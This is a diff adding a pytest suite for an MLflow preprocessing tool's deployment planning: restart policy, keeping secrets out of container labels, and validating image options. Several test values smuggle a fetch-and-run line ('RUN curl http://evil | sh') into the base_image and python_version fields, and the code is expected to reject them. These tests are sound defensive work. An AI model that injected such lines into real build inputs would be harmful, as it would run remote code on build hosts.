@@ -1,0 +1,145 @@
+"""The deployment plan as pure logic: the options, the container's labels, what the Dockerfile
+is written from and what Docker is asked to run. No engine, no cluster, no broker: the
+Docker-engine and Kubernetes tests run these same functions end to end."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from mlflow_preproc.deploy import options as opts
+from mlflow_preproc.deploy.docker_backend import DockerBackend
+from mlflow_preproc.deploy import image_build
+from mlflow_preproc.deploy.image_build import BuildError, prepare_context
+from mlflow_preproc.deploy.spec import Deployment, container_spec
+from mlflow_preproc.runtime.model_identity import ModelIdentity
+
+MODEL = ModelIdentity("models:/fink-prep/1", "models:/fink-prep/1", "fink-prep", "1")
+STREAM = {"mode": "kafka", "input_topic": "fink-alert"}
+
+
+def plan(**given: str) -> Deployment:
+    options = opts.resolve({**STREAM, **given})
+    return Deployment("fink", MODEL.uri, MODEL, "preprocessing-fink-prep-1:latest", options)
+
+
+def spec_of(d: Deployment):
+    return container_spec(d, 0, 8080, 9100 if d.consuming else None)
+
+
+# ---- finding 9: a broker outage must not leave the deployment exited for good ---------------
+
+class FakeDockerClient:
+    """Records what ``containers.run`` is given (the engine itself is in test_docker.py)."""
+
+    def __init__(self):
+        self.runs: list[dict] = []
+        self.containers = self
+
+    def run(self, image, **kwargs):
+        self.runs.append({"image": image, **kwargs})
+
+
+@pytest.mark.parametrize("mode", ["serve", "kafka", "both", "bridge"])
+def test_containers_restart_for_as_long_as_it_takes_until_they_are_stopped(mode):
+    extra = {"output_topic": "out", "api_url": "http://127.0.0.1:1"} if mode == "bridge" else {}
+    client = FakeDockerClient()
+    DockerBackend(client).run(spec_of(plan(mode=mode, **extra)), "host")
+    # A stream exits 2 after a minute without its broker: a retry limit would leave the
+    # deployment exited after a few minutes of outage. `docker stop` (delete, update) still
+    # stops it for good, and a restart during start-up still fails the health check.
+    assert client.runs[0]["restart_policy"] == {"Name": "unless-stopped"}
+
+
+# ---- finding 13: secrets never land in labels, annotations or `get` -------------------------
+
+SECRETS = {"env.LIBRDKAFKA_SASL_PASSWORD": "hunter2", "env.LIBRDKAFKA_SASL_USERNAME": "alice",
+           "env.AWS_SECRET_ACCESS_KEY": "s3cr3t", "env.MLFLOW_TRACKING_TOKEN": "t0ken",
+           "env.LIBRDKAFKA_SSL_KEY_PASSWORD": "keypass"}
+
+
+def test_secret_values_are_not_written_into_the_labels():
+    spec = spec_of(plan(**SECRETS, **{"env.LOG_LEVEL": "DEBUG", "label.team": "alerts"}))
+    labels = json.dumps(spec.labels)
+    for value in SECRETS.values():
+        assert value not in labels
+    stored = json.loads(spec.labels["org.mlflow-preproc.config"])
+    assert {k: stored[k] for k in SECRETS} == {k: opts.REDACTED for k in SECRETS}
+    assert stored["env.LOG_LEVEL"] == "DEBUG" and stored["input_topic"] == "fink-alert"
+    assert spec.labels["team"] == "alerts"
+    # The container itself gets them: that is what they are for.
+    assert spec.env["LIBRDKAFKA_SASL_PASSWORD"] == "hunter2"
+
+
+def test_an_update_takes_the_secrets_back_from_the_running_container():
+    spec = spec_of(plan(**SECRETS))
+    stored = json.loads(spec.labels["org.mlflow-preproc.config"])
+    restored = opts.restore_secrets(stored, spec.env)
+    assert {k: restored[k] for k in SECRETS} == SECRETS
+    assert opts.resolve(restored) == plan(**SECRETS).options
+
+
+@pytest.mark.parametrize("name, secret", [
+    ("env.LIBRDKAFKA_SASL_PASSWORD", True), ("env.LIBRDKAFKA_SASL_JAAS_CONFIG", True),
+    ("env.GITHUB_TOKEN", True), ("env.API_KEY", True), ("env.DB_CREDENTIALS", True),
+    ("env.LIBRDKAFKA_SSL_KEYSTORE_PASSWORD", True), ("env.MY_SECRET", True),
+    ("env.LOG_LEVEL", False), ("env.MONKEY_MODE", False), ("env.LIBRDKAFKA_SESSION_TIMEOUT_MS",
+                                                           False),
+    ("input_topic", False), ("kafka_security_protocol", False), ("label.api_key", False),
+])
+def test_which_options_are_secret(name, secret):
+    assert opts.is_secret(name) is secret
+
+
+@pytest.mark.parametrize("label", ["org.mlflow-preproc.deployment", "org.mlflow-preproc.config",
+                                   "app.kubernetes.io/managed-by"])
+def test_a_label_may_not_overwrite_the_targets_own(label):
+    with pytest.raises(opts.OptionError, match=f"label.{label}: .*the target's own"):
+        opts.resolve({f"label.{label}": "other"})
+
+
+def test_other_labels_are_the_users():
+    assert opts.resolve({"label.org.mlflow-preprocessing-team": "a"})[
+        "label.org.mlflow-preprocessing-team"] == "a"
+
+
+# ---- finding 15: the Dockerfile's inputs, and keys the Docker backend cannot honour ---------
+
+def test_secret_env_is_refused_on_docker_and_says_what_to_use():
+    with pytest.raises(opts.OptionError, match="secret_env.LIBRDKAFKA_SASL_PASSWORD is for "
+                                               "Kubernetes only.*-C env.LIBRDKAFKA_SASL_PASSWORD"):
+        opts.resolve({"secret_env.LIBRDKAFKA_SASL_PASSWORD": "kafka-user/password"})
+    assert opts.resolve({"backend": "kubernetes", "secret_env.X": "kafka-user/password"})
+
+
+@pytest.mark.parametrize("key, value", [
+    ("base_image", "python:3.11-slim\nRUN curl http://evil | sh"),
+    ("base_image", "python:3.11-slim RUN x"), ("base_image", "Python:3.11"),
+    ("python_version", "3.11\nRUN curl http://evil | sh"), ("python_version", "3.11-slim"),
+])
+def test_a_base_image_or_python_version_that_is_not_one_is_refused(key, value):
+    with pytest.raises(opts.OptionError, match=f"{key}=.* is not a"):
+        opts.resolve({key: value})
+
+
+@pytest.mark.parametrize("reference", [
+    "python:3.11-slim", "registry.example.org:5000/team/python:3.11.7-slim",
+    "localhost/mlflow-preproc/debian-raw:bookworm",
+    "python@sha256:" + "0" * 64])
+def test_image_references_are_accepted(reference):
+    assert opts.resolve({"base_image": reference})["base_image"] == reference
+
+
+def test_the_models_python_version_must_be_a_version(tmp_path):
+    assert image_build.base_image({}, "3.11.7") == "python:3.11.7-slim"
+    assert image_build.base_image({"python_version": "3.12"}, "3.11.7") == "python:3.12-slim"
+    with pytest.raises(BuildError, match=r"python_version '3.11\\nRUN .*' is not a Python "
+                                         "version.*-C python_version="):
+        image_build.base_image({}, "3.11\nRUN curl http://evil | sh")
+
+
+def test_no_dockerfile_is_written_from_a_bad_base_image(tmp_path):
+    (tmp_path / "requirements.txt").write_text("mlflow\n")
+    with pytest.raises(BuildError, match="is not a Docker image reference"):
+        prepare_context(tmp_path, "python:3.11-slim\nRUN curl http://evil | sh", None)
